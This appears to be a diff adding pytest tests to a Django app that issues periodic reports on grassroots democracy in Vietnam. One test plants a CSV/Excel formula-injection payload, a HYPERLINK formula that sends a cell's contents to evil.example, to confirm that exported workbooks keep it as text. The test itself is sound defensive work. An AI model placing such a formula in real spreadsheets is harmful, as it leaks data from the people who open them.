@@ -9,20 +9,24 @@ import io
 
 import pytest
 from django.urls import reverse
+from django.utils import timezone
 from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from grassroots.accounts.models import Role
 from grassroots.accounts.tests.factories import UserFactory, grant
-from grassroots.core.indicators import Item
+from grassroots.core.errors import DomainError
+from grassroots.core.indicators import Indicator, Item
 from grassroots.core.models import AuditEvent
 from grassroots.core.tests.readback import docx_text, flat, pdf_text
-from grassroots.reporting import periodic, refresh
+from grassroots.reporting import periodic, refresh, registry
 from grassroots.reporting.figures import Tally
 from grassroots.reporting.periodic import HALF_YEAR, Period
 from grassroots.territory.models import UnitKind
 from grassroots.territory.tests.factories import UnitFactory, make_tree
+
+from .fakes import FAKES
 
 pytestmark = pytest.mark.django_db
 TODAY = dt.date(2026, 7, 20)
@@ -119,6 +123,7 @@ def test_issuing_a_report_is_recorded_in_the_audit_trail(client, sign_in, tree):
     assert client.get(url).status_code == 200
     event = AuditEvent.objects.get(verb="reporting.report_issued")
     assert event.actor_id == user.pk and event.data == {"kind": "Y", "year": 2026, "number": 1, "format": "pdf"}
+    assert event.unit_id == tree["province"].pk
 
 
 def test_the_reports_page_links_every_format(client, sign_in, tree):
@@ -184,6 +189,119 @@ def test_the_download_is_named_after_the_unit_and_the_period(client, sign_in, tr
     response = client.get(url)
     assert 'filename="bao-cao-AC-2026-H2.xlsx"' in response["Content-Disposition"]
     assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
+
+
+def test_text_typed_as_a_formula_stays_text_in_the_workbook(tree, fake_indicators):
+    """A title, a unit's name or the person responsible typed as "=HYPERLINK(…)" must not become a live formula."""
+    trap = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    village = tree["village1"]
+    village.name = "=1+2"
+    village.save()
+    fake_indicators["fake_a"].append(
+        Item(village.pk, dt.date(2026, 5, 9), trap, 0, 1, deadline=dt.date(2026, 5, 20), overdue=True,
+             responsible="@SUM(1;2)", url="/m/9/")
+    )  # fmt: skip
+    refresh.refresh_commune(tree["commune"], TODAY)
+    content = periodic.workbook(periodic.build(tree["commune"], Period("Q", 2026, 2), TODAY))
+    book = load_workbook(io.BytesIO(content))  # not read-only: the cells' types are read back
+    overdue = {c.value: c for row in book["Việc quá hạn"].iter_rows() for c in row}
+    below = {c.value: c for row in book["Đơn vị trực thuộc"].iter_rows() for c in row}
+    for cell in (overdue[trap], overdue["@SUM(1;2)"], overdue["=1+2"], below["=1+2"]):
+        assert cell.data_type == "s", cell.value
+    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert overdue["/m/9/"].data_type == "s"
+    numbers = next(r for r in book["Chỉ tiêu"].iter_rows(values_only=True) if r[0] == "fake_a")
+    assert numbers[3:6] == (1, 3, 33.3)  # the figures stay numbers
+
+
+def _paper(unit):  # type: ignore[no-untyped-def]
+    return periodic.paper(periodic.build(unit, Period("Q", 2026, 2), TODAY))
+
+
+def test_each_paper_is_headed_and_signed_by_the_body_that_issues_it(tree):
+    province = _paper(tree["province"])
+    assert province.unit_lines == ("BAN CHỈ ĐẠO THỰC HIỆN DÂN CHỦ Ở CƠ SỞ TỈNH A", "")
+    assert province.signatures == [("TM. BAN CHỈ ĐẠO\nTRƯỞNG BAN", "")]
+    assert province.place_date.startswith("A, ngày ")
+    commune = _paper(tree["commune"])
+    assert commune.unit_lines == ("ỦY BAN NHÂN DÂN", "XÃ A")
+    assert commune.signatures == [("TM. ỦY BAN NHÂN DÂN\nCHỦ TỊCH", "")]
+    assert "BAN CHỈ ĐẠO" not in commune.unit_lines[0]
+    village = _paper(tree["village1"])
+    assert village.unit_lines == ("XÃ A", "THÔN A1")
+    assert village.signatures == [("TRƯỞNG THÔN", "")]
+    assert village.place_date.startswith("A1, ngày ")
+    group = UnitFactory(code="AC-9", name="Hòa Bình", kind=UnitKind.RESIDENTIAL_GROUP, parent=tree["commune"])
+    paper = _paper(group)
+    assert paper.unit_lines == ("XÃ A", "TỔ DÂN PHỐ HÒA BÌNH")
+    assert paper.signatures == [("TỔ TRƯỞNG TỔ DÂN PHỐ", "")]
+    assert paper.place_date.startswith("Hòa Bình, ngày ")
+
+
+def test_the_commune_paper_drawn_to_docx_says_who_issues_it(client, sign_in, tree):
+    sign_in(client, _steering(tree["province"]))
+    url = reverse("reporting_reports:report-download", args=[tree["commune"].code, "Q", 2026, 1, "docx"])
+    text = flat_docx(client.get(url).content)
+    assert "ỦY BAN NHÂN DÂN" in text and "XÃ A" in text and "CHỦ TỊCH" in text
+    assert "BAN CHỈ ĐẠO" not in text
+
+
+@pytest.mark.parametrize(
+    ("name", "place"),
+    [
+        ("Xã Quảng Phú", "Quảng Phú"),
+        ("Thôn Đông Hòa", "Đông Hòa"),
+        ("Tổ dân phố Hòa Bình", "Hòa Bình"),
+        ("Tỉnh Thanh Hóa", "Thanh Hóa"),
+        ("Thôn 3", "Thôn 3"),  # a number alone is no place
+        ("Phường 2", "Phường 2"),
+        ("Thôn", "Thôn"),
+    ],
+)
+def test_the_place_line_drops_the_kind_word(name, place):
+    assert periodic._place(name) == place
+
+
+def test_a_period_that_has_not_started_is_refused_with_a_message(client, sign_in, tree):
+    user = _steering(tree["province"])
+    with pytest.raises(DomainError, match="has not started yet"):
+        periodic.issue_report(actor=user, unit=tree["commune"], period=Period("Q", 2026, 3), ext="pdf",
+                              today=dt.date(2026, 6, 30))  # fmt: skip
+    sign_in(client, user)
+    future = timezone.localdate().year + 1
+    url = reverse("reporting_reports:report-download", args=[tree["commune"].code, "Y", future, 1, "pdf"])
+    response = client.get(url, follow=True)
+    assert response.redirect_chain == [(reverse("reporting_reports:reports", args=["AC"]), 302)]
+    [message] = [str(m) for m in response.context["messages"]]
+    assert str(future) in message
+    assert not AuditEvent.objects.filter(verb="reporting.report_issued").exists()
+
+
+def test_a_unit_abolished_before_the_period_is_not_in_its_ranking(tree):
+    merged = UnitFactory(code="AM", name="Xã Cũ", kind=UnitKind.COMMUNE, parent=tree["province"],
+                         valid_to=dt.date(2025, 7, 1))  # fmt: skip
+    later = UnitFactory(code="AN", name="Xã Mới", kind=UnitKind.COMMUNE, parent=tree["province"],
+                        valid_from=dt.date(2026, 7, 1))  # fmt: skip
+    now = [r.unit for r in periodic.build(tree["province"], Period("Q", 2026, 2), TODAY).below]
+    assert merged not in now and later not in now and tree["commune"] in now
+    before = [r.unit for r in periodic.build(tree["province"], Period(HALF_YEAR, 2025, 1), TODAY).below]
+    assert merged in before and later not in before
+
+
+def test_the_citation_column_gives_the_official_form_and_a_dash_where_no_article_sets_it(tree, monkeypatch):
+    extra = (
+        Indicator("fake_c", "Fake C", "C", "", "done", "due", lambda *a: [], order=3),
+        Indicator("fake_d", "Fake D", "D", "Law Arts 12(3), 13", "done", "due", lambda *a: [], order=4),
+    )
+    monkeypatch.setattr(registry, "all_indicators", lambda: (*FAKES, *extra))
+    paper = _paper(tree["commune"])
+    rows = {r.indicator.code: r.citation for r in periodic.build(tree["commune"], Period("Q", 2026, 2), TODAY).rows}
+    assert rows["fake_a"] == "Điều 11 Luật Thực hiện dân chủ ở cơ sở"
+    assert rows["fake_c"] == "—"
+    assert rows["fake_d"] == "khoản 3 Điều 12 Luật Thực hiện dân chủ ở cơ sở; Điều 13 Luật Thực hiện dân chủ ở cơ sở"
+    text = paper.text()
+    assert "| Fake C | — |" in text
+    assert "không có điều, khoản nào quy định" in text
 
 
 def flat_docx(content: bytes) -> str:
